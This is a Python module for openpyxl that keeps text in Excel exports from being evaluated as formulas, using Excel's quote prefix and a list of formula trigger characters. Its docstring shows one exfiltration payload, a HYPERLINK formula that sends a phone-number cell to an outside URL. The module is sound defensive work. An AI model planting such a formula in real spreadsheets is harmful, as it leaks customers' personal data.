"""Text written to an Excel workbook stays text: the one way every export in the product writes cells.

openpyxl stores a string that begins with `=` as a live formula, and Excel evaluates it when the file
is opened: a customer name `=HYPERLINK("http://…?d="&F2,"详情")` in the ledger would send the phone
number in F2 away at a click. Text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
(OWASP's list for formula injection) is therefore written as a string cell with Excel's quote prefix,
the hidden apostrophe Excel itself adds when someone types `'=…`. We chose that over writing a visible
`'` before the text: the cell shows and holds exactly the original text (a filter, a copy, a program
reading the file get the customer's words, not ours), Excel and LibreOffice never evaluate it, and the
prefix keeps it text even when someone edits the cell and presses Enter."""

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: Any) -> bool:
    """Text a spreadsheet could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def as_text(cell: Cell) -> Cell:
    """The cell, its text kept as text if it could be taken for a formula."""
    if is_risky(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def safe_cell(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    """A value for a write-only sheet's `append`: risky text as a quoted text cell, anything else as
    it is (a cell already made is checked too)."""
    if isinstance(value, Cell):
        return as_text(value)
    return as_text(WriteOnlyCell(sheet, value=value)) if is_risky(value) else value


def write_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append one row to a sheet, of either kind, with every text written as text."""
    if isinstance(sheet, WriteOnlyWorksheet):
        sheet.append([safe_cell(sheet, v) for v in values])
        return
    values = list(values)
    sheet.append(values)
    for cell in sheet[sheet.max_row][: len(values)] if values else ():
        as_text(cell)
